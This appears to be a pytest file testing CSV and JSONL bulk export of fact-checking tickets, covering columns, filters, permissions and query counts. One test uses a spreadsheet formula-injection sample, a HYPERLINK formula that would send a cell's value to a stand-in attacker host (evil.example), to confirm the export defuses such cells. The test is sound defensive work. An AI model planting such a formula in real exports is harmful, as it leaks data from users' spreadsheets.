"""Bulk export (issue 13, part 5): GET /api/v1/tickets/export.csv|.jsonl and manage.py
export_tickets: the documented columns in their order, the list's filters, evidence counts and
verdict fields, CSV cells that a spreadsheet would run as formulas defused."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command

from claims.exports import EXPORT_COLUMNS
from claims.models import Tag
from claims.workflow import State
from evidence.models import Stance
from tests.factories import ClaimFactory, EvidenceFactory, TicketFactory

pytestmark = pytest.mark.django_db

README_COLUMNS = (
    "id,key,text,claimant,claimed_at,source_url,language,place_name,latitude,longitude,"
    "bbox_west,bbox_south,bbox_east,bbox_north,event_start,event_end,media_url,media_type,tags,"
    "priority,state,assignee,opened_by,created_at,updated_at,evidence_total,evidence_supporting,"
    "evidence_refuting,proposed_verdict,verdict,rationale,media_authenticity,media_context,"
    "submitted_by,decided_by,decided_at"
)


def content(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content(response))))


@pytest.fixture
def decided():
    ticket = TicketFactory(decided=True, state=State.DEBUNKED, key="partner-7")
    ticket.claim.tags.add(Tag.objects.create(name="drones"), Tag.objects.create(name="kyiv"))
    EvidenceFactory(ticket=ticket, stance=Stance.REFUTES)
    EvidenceFactory(ticket=ticket, stance=Stance.REFUTES)
    EvidenceFactory(ticket=ticket, stance=Stance.SUPPORTS)
    EvidenceFactory(ticket=ticket, stance=Stance.CONTEXT)
    return ticket


def test_the_csv_has_the_documented_columns_in_their_order(client_for, reporter, decided):
    TicketFactory()
    response = client_for(reporter).get("/api/v1/tickets/export.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="tickets-')
    text = content(response)
    assert text.splitlines()[0] == ",".join(f'"{c}"' for c in README_COLUMNS.split(","))
    assert ",".join(EXPORT_COLUMNS) == README_COLUMNS
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    row = next(r for r in rows if r["id"] == str(decided.pk))
    assert row["key"] == "partner-7"
    assert row["tags"] == "drones;kyiv"
    assert (row["evidence_total"], row["evidence_supporting"], row["evidence_refuting"]) == (
        "4",
        "1",
        "2",
    )
    assert row["verdict"] == "debunked" and row["state"] == "debunked"
    assert row["rationale"] == decided.rationale
    assert row["decided_by"] == decided.decided_by.username
    assert row["decided_at"] == decided.decided_at.isoformat()
    assert row["priority"] == "normal"
    assert row["latitude"] == "58.0" and row["claimed_at"] == "2025-12-29"
    other = next(r for r in rows if r["id"] != str(decided.pk))
    assert other["evidence_total"] == "0" and other["tags"] == "" and other["key"] == ""


def test_the_list_filters_select_what_is_exported(client_for, reporter, decided):
    TicketFactory(researching=True)
    TicketFactory(claim=ClaimFactory(claimant="Volodymyr Zelensky"))
    client = client_for(reporter)

    def ids(query: str) -> list[str]:
        response = client.get(f"/api/v1/tickets/export.csv?{query}")
        assert response.status_code == 200, response.content
        return [r["id"] for r in csv_rows(response)]

    assert ids("state=debunked") == [str(decided.pk)]
    assert ids("tag=drones") == [str(decided.pk)]
    assert len(ids("claimant=zelensky")) == 1
    assert len(ids("state=researching&ordering=created")) == 1
    assert len(ids("ordering=-priority")) == 3


def test_a_bad_filter_is_a_json_400_and_an_outsider_a_403(client_for, reporter, outsider):
    response = client_for(reporter).get("/api/v1/tickets/export.csv?state=maybe")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert "state" in response.json()["error"]["fields"]
    unknown = client_for(reporter).get("/api/v1/tickets/export.jsonl?stat=debunked")
    assert unknown.status_code == 400 and "stat" in unknown.json()["error"]["fields"]
    assert client_for(outsider).get("/api/v1/tickets/export.csv").status_code == 403


def test_cells_a_spreadsheet_would_run_as_formulas_are_defused(client_for, reporter):
    TicketFactory(
        claim=ClaimFactory(
            text='=HYPERLINK("http://evil.example/?x="&A1, "click")',
            claimant="+1 555 0100",
            place_name="@SUM(1+1)",
            latitude=-33.9,
            longitude=-18.4,
        ),
        key="-42",
    )
    (row,) = csv_rows(client_for(reporter).get("/api/v1/tickets/export.csv"))
    assert row["text"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1, "click")'
    assert row["claimant"] == "'+1 555 0100"
    assert row["place_name"] == "'@SUM(1+1)"
    assert row["key"] == "'-42"
    assert row["latitude"] == "-33.9"  # numbers are numbers, never prefixed


def test_jsonl_has_one_object_per_ticket_with_the_same_keys(client_for, reporter, decided):
    response = client_for(reporter).get("/api/v1/tickets/export.jsonl")
    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    (line,) = content(response).splitlines()
    record = json.loads(line)
    assert tuple(record) == EXPORT_COLUMNS
    assert record["tags"] == ["drones", "kyiv"]
    assert record["evidence_refuting"] == 2 and record["latitude"] == 58.0
    assert record["verdict"] == "debunked" and record["key"] == "partner-7"


def test_the_command_writes_each_format_and_takes_the_filters(tmp_path, decided):
    TicketFactory()
    out = tmp_path / "tickets.csv"
    call_command("export_tickets", "--format", "csv", "--output", str(out), stderr=io.StringIO())
    assert len(list(csv.DictReader(out.open(newline="")))) == 2

    stdout = io.StringIO()
    call_command("export_tickets", "--format", "jsonl", "--filter", "state=debunked", stdout=stdout)
    assert [json.loads(line)["id"] for line in stdout.getvalue().splitlines()] == [decided.pk]

    stdout = io.StringIO()
    call_command("export_tickets", "--format", "claimreview", stdout=stdout)
    (review,) = [json.loads(line) for line in stdout.getvalue().splitlines()]
    assert review["@type"] == "ClaimReview"
    assert review["reviewRating"]["alternateName"] == "Debunked"
    assert review["claimReviewed"] == decided.claim.text

    with pytest.raises(CommandError, match="NAME=VALUE"):
        call_command("export_tickets", "--filter", "colour=red")
    with pytest.raises(CommandError, match="state"):
        call_command("export_tickets", "--filter", "state=maybe")


def test_the_export_reads_a_fixed_number_of_queries_whatever_the_rows(client_for, reporter):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = client_for(reporter)
    client.get("/api/v1/tickets/export.csv")  # warm-up: the token, permissions

    def queries(more: int) -> int:
        for n in range(more):
            ticket = TicketFactory()
            EvidenceFactory(ticket=ticket)
            ticket.claim.tags.add(Tag.objects.get_or_create(name=f"tag-{n % 3}")[0])
        with CaptureQueriesContext(connection) as captured:
            rows = csv_rows(client.get("/api/v1/tickets/export.csv"))
        assert rows and all(r["evidence_total"] == "1" for r in rows)
        return len(captured)

    # The tag names once, the export's one query (a savepoint around it in a test).
    assert queries(3) == queries(30) <= 4
